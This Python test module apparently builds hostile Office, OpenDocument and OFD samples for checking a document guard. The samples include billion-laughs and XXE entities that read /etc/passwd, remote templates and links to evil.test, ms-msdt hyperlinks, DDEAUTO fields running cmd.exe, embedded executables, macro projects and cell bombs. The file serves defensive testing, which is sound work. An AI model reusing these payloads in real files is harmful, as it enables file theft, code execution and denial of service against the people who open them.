"""Documents that act, fetch, burst or lie: Office, OpenDocument, OFD."""

import random
from collections.abc import Iterator

from tests.evidence.guard import make
from tests.evidence.guard.hostile import INERT, Case, case
from tests.evidence.guard.hostile_kinds import HTML, MZ, NOISE
from tests.evidence.guard.make import docx, ole, paragraph, rels, xlsx

_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]>"
)
_XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
_REMOTE_DTD = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.test/x.dtd">'
_LARGE = random.Random(5).randbytes(200_000)
_WORD_RELS = "word/_rels/document.xml.rels"


def cases() -> Iterator[Case]:
    yield from _xml()
    yield from _macros()
    yield from _outside()
    yield from _embedded()
    yield from _cells()


def _xml() -> Iterator[Case]:
    def laughing(head: str) -> bytes:
        return docx(parts={"word/document.xml": make.w_part("document", paragraph("&a;"), head)})

    yield case("a billion laughs", "纪要.docx", laughing(_LAUGHS), "xml")
    yield case("an entity from a file", "纪要.docx", laughing(_XXE), "xml")
    yield case("a document type from outside", "纪要.docx", laughing(_REMOTE_DTD), "xml")
    utf_16 = make.w_part("document", paragraph("&a;"), _XXE).encode("utf-16")
    yield case("entities in UTF-16", "纪要.docx", docx(parts={"word/document.xml": utf_16}), "xml")
    for part in (
        "word/_rels/document.xml.rels",
        "docProps/core.xml",
        "word/header1.xml",
        "customXml/item1.xml",
    ):
        yield case(
            f"entities in {part}", "纪要.docx", docx(parts={part: f"{_LAUGHS}<x>&j;</x>"}), "xml"
        )
    for part in ("xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"):
        yield case(
            f"entities in {part}", "台账.xlsx", xlsx(parts={part: f"{_LAUGHS}<x>&j;</x>"}), "xml"
        )
    yield case(
        "entities in a slide",
        "介绍.pptx",
        make.pptx(parts={"ppt/slides/slide1.xml": f"{_XXE}<x>&a;</x>"}),
        "xml",
    )
    yield case("entities in OpenDocument", "纪要.odt", make.odf("&j;", head=_LAUGHS), "xml")
    yield case("entities in OFD", "纪要.ofd", make.ofd("x", head=_XXE), "xml")
    deep = "<a>" * 100_000 + "</a>" * 100_000
    yield case(
        "XML a hundred thousand deep", "纪要.docx", docx(parts={"word/document.xml": deep}), "bomb"
    )
    yield case(
        "XML that ends early",
        "纪要.docx",
        docx(parts={"word/document.xml": "<w:document"}),
        "broken",
    )
    utf_7 = '<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>'
    yield case("XML in UTF-7", "纪要.docx", docx(parts={"word/document.xml": utf_7}), "broken")
    wide = "<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"
    yield case(
        "a hundred thousand attributes", "纪要.docx", docx(parts={"word/styles.xml": wide}), INERT
    )


def _macros() -> Iterator[Case]:
    for ending in ("docm", "dotm", "xlsm", "xlam", "xlsb", "pptm", "ppsm"):
        yield case(f"a macro format, .{ending}", f"纪要.{ending}", docx(), "macros")
    macro_main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield case("a macro format under another name", "纪要.docx", docx(main=macro_main), "macros")
    yield case("a macro project", "纪要.docx", docx(parts={"word/vbaProject.bin": b"x"}), "macros")
    yield case(
        "a macro project elsewhere", "纪要.docx", docx(parts={"x/VBAProject.bin": b"x"}), "macros"
    )
    declared = '<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    yield case("a macro project declared", "纪要.docx", docx(types=declared), "macros")
    yield case(
        "a macro project in a workbook",
        "台账.xlsx",
        xlsx(parts={"xl/vbaProject.bin": b"x"}),
        "macros",
    )
    yield case(
        "a macro sheet", "台账.xlsx", xlsx(parts={"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"
    )
    binary = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
    yield case("a binary workbook", "台账.xlsx", xlsx(main=binary), "macros")
    yield case("a control", "纪要.docx", docx(parts={"word/activeX/activeX1.bin": b"x"}), "macros")
    yield case(
        "a control in the text",
        "纪要.docx",
        docx('<w:control r:id="1" xmlns:r="urn:r"/>'),
        "macros",
    )
    word = {"WordDocument": b"\xec\xa5"}
    yield case("old Word with macros", "纪要.doc", ole(word, storages=["Macros"]), "macros")
    yield case(
        "old Word with a VBA stream", "纪要.doc", ole({**word, "_VBA_PROJECT": b"x"}), "macros"
    )
    yield case(
        "old Excel with macros",
        "台账.xls",
        ole({"Workbook": b""}, storages=["_VBA_PROJECT_CUR"]),
        "macros",
    )
    hidden_macro_sheet = b"\x85\0\x0e\0" + b"\0\0\0\0\x02\x01\x06\0Macro1"
    yield case(
        "an Excel 4 macro sheet", "台账.xls", ole({"Workbook": hidden_macro_sheet}), "macros"
    )
    yield case("WPS with macros", "纪要.wps", ole(word, storages=["Macros"]), "macros")
    yield case(
        "old PowerPoint with macros",
        "介绍.ppt",
        ole({"PowerPoint Document": b""}, storages=["VBA"]),
        "macros",
    )
    yield case(
        "OpenDocument with Basic",
        "纪要.odt",
        make.odf("", parts={"Basic/Standard/a.xml": "<x/>"}),
        "macros",
    )
    event = '<script:event-listener script:event-name="dom:load"/>'
    yield case("OpenDocument with an event", "纪要.odt", make.odf(event), "macros")
    yield case(
        "a password, old Word",
        "纪要.doc",
        ole({"WordDocument": b"\xec\xa5" + bytes(8) + b"\0\x01"}),
        "encrypted",
    )
    yield case(
        "a password, Word",
        "纪要.docx",
        ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}),
        "encrypted",
    )
    yield case("a password, old Excel", "台账.xls", ole({"Workbook": b"\x2f\0\0\0"}), "encrypted")
    yield case("old Word cut off", "纪要.doc", ole(word)[:700], "broken")
    yield case("old Word of noise", "纪要.doc", ole(word)[:512] + NOISE[:2048], "broken")


def _outside() -> Iterator[Case]:
    def related(kind: str, target: str) -> bytes:
        return docx(parts={_WORD_RELS: rels((kind, target, True))})

    for kind, target in (
        ("attachedTemplate", "http://evil.test/a.dotm"),
        ("attachedTemplate", "\\\\evil.test\\share\\a.dotm"),
        ("attachedTemplate", "file://evil.test/share/a.dotm"),
        ("attachedTemplate", "file:////evil.test/share/a.dotm"),
        ("oleObject", "https://evil.test/a.html"),
        ("oleObject", "mhtml:http://evil.test/a!x-usc:b"),
        ("image", "http://evil.test/a.png"),
        ("image", "//evil.test/a.png"),
        ("frame", "http://evil.test/a.htm"),
        ("aFChunk", "http://evil.test/a.htm"),
        ("subDocument", "ftp://evil.test/a.docx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("hyperlink", "search-ms:query=x"),
    ):
        yield case(f"{kind} {target}", "纪要.docx", related(kind, target), "external")
    yield case(
        "a picture from outside on a slide",
        "介绍.pptx",
        make.pptx(
            "x",
            parts={"ppt/slides/_rels/slide1.xml.rels": rels(("image", "http://e.test/a", True))},
        ),
        "external",
    )
    field = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    split = f"<w:p>{run.format('DDE')}{run.format('AUTO cmd')}</w:p>"
    yield case(
        "a DDE field",
        "纪要.docx",
        docx(field.format('DDEAUTO c:\\\\cmd.exe "/k calc"')),
        "external",
    )
    yield case("a DDE field in two pieces", "纪要.docx", docx(split), "external")
    yield case(
        "a simple DDE field", "纪要.docx", docx('<w:fldSimple w:instr="DDE cmd x"/>'), "external"
    )
    yield case(
        "a picture field",
        "纪要.docx",
        docx(field.format('INCLUDEPICTURE "http://e.test/a"')),
        "external",
    )
    yield case(
        "an old picture from outside",
        "纪要.docx",
        docx('<v:imagedata src="http://evil.test/a" xmlns:v="urn:v"/>'),
        "external",
    )
    link = "xl/externalLinks/externalLink1.xml"
    yield case(
        "a DDE link",
        "台账.xlsx",
        xlsx(parts={link: '<x><ddeLink ddeService="cmd"/></x>'}),
        "external",
    )
    yield case(
        "a workbook from outside",
        "台账.xlsx",
        xlsx(
            parts={
                "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                    ("externalLinkPath", "https://evil.test/a.xlsx", True)
                )
            }
        ),
        "external",
    )
    yield case(
        "a data connection", "台账.xlsx", xlsx(parts={"xl/connections.xml": "<x/>"}), "external"
    )
    dde = "\x13DDEAUTO c:\\\\cmd.exe \x14".encode("utf-16-le")
    yield case(
        "a DDE field, old Word",
        "纪要.doc",
        ole({"WordDocument": b"\xec\xa5" + bytes(30) + dde}),
        "external",
    )
    narrow = b"\xec\xa5" + bytes(30) + b"\x13DDEAUTO c:\\cmd.exe\x14"
    yield case(
        "a narrow DDE field, old Word", "纪要.doc", ole({"WordDocument": narrow}), "external"
    )
    for target in (
        "http://evil.test/a.png",
        "//evil.test/a.png",
        "file://evil.test/a",
        "vnd.sun.star.script:x",
    ):
        image = f'<draw:image xlink:href="{target}"/>'
        yield case(f"OpenDocument with {target}", "纪要.odt", make.odf(image), "external")
    yield case(
        "OpenDocument with DDE",
        "台账.ods",
        make.odf("<office:dde-source/>", "spreadsheet"),
        "external",
    )
    yield case(
        "a link that a person may click",
        "纪要.docx",
        related("hyperlink", "https://www.12371.cn/"),
        INERT,
    )
    yield case(
        "a template on the author's disk",
        "纪要.docx",
        related("attachedTemplate", "file:///C:/a.dotm"),
        INERT,
    )


def _embedded() -> Iterator[Case]:
    def holding(content: bytes, name: str = "a.bin") -> bytes:
        return docx(parts={f"word/embeddings/{name}": content})

    yield case("a program in a document", "纪要.docx", holding(MZ), "program")
    yield case(
        "a program in a workbook", "台账.xlsx", xlsx(parts={"xl/embeddings/a.bin": MZ}), "program"
    )
    yield case(
        "a page in a document", "纪要.docx", docx(parts={"word/afchunk.htm": HTML}), "embedded"
    )
    yield case(
        "a program beside a document", "纪要.docx", docx(parts={"word/media/a.exe": MZ}), "embedded"
    )
    yield case("noise in a document", "纪要.docx", holding(NOISE), "embedded")
    yield case(
        "a packed file in a document",
        "纪要.docx",
        holding(ole({"WordDocument": b"", "\x01Ole10Native": MZ})),
        "embedded",
    )
    yield case(
        "a packed file in old Word",
        "纪要.doc",
        ole({"WordDocument": b"", "\x01Ole10Native": MZ}),
        "embedded",
    )
    yield case(
        "macros in a document in a document",
        "纪要.docx",
        holding(docx(parts={"word/vbaProject.bin": b"x"})),
        "macros",
    )
    yield case(
        "an archive in a document", "纪要.docx", holding(make.zip_of({"a.txt": "a"})), "nested"
    )
    yield case(
        "documents five deep", "纪要.docx", holding(holding(holding(holding(docx())))), "nested"
    )
    yield case(
        "a program in OFD", "纪要.ofd", make.ofd("x", {"Doc_0/Attachs/a.exe": MZ}), "embedded"
    )
    yield case(
        "a program in OpenDocument",
        "纪要.odt",
        make.odf("", parts={"Object/a.exe": MZ}),
        "embedded",
    )
    yield case("a document in a document", "纪要.docx", holding(docx(), "a.docx"), INERT)


def _cells() -> Iterator[Case]:
    def cells(text: str, count: int) -> Iterator[bytes]:
        rows = f"<row>{text * 1000}</row>".encode()
        yield make.sheet("ROWS").split("ROWS")[0].encode()
        for _ in range(count // 10_000):
            yield rows * 10
        yield b"</sheetData></worksheet>"

    def workbook(text: str) -> bytes:
        parts = make.xlsx_parts()
        del parts["xl/worksheets/sheet1.xml"]
        return make.zip_of_much("xl/worksheets/sheet1.xml", cells(text, 10_000_000), parts)

    yield case("ten million empty cells", "台账.xlsx", lambda: workbook("<c/>"), "cells")
    yield case("ten million numbers", "台账.xlsx", lambda: workbook("<c><v>1</v></c>"), "cells")
    yield case("ten million texts", "台账.xlsx", lambda: workbook('<c t="s"><v>0</v></c>'), "cells")
    row = "<table:table-row>" + "<table:table-cell/>" * 1000 + "</table:table-row>"
    yield case(
        "two million cells of OpenDocument",
        "台账.ods",
        lambda: make.odf(row * 2100, "spreadsheet", parts={"Pictures/a": _LARGE}),
        "cells",
    )
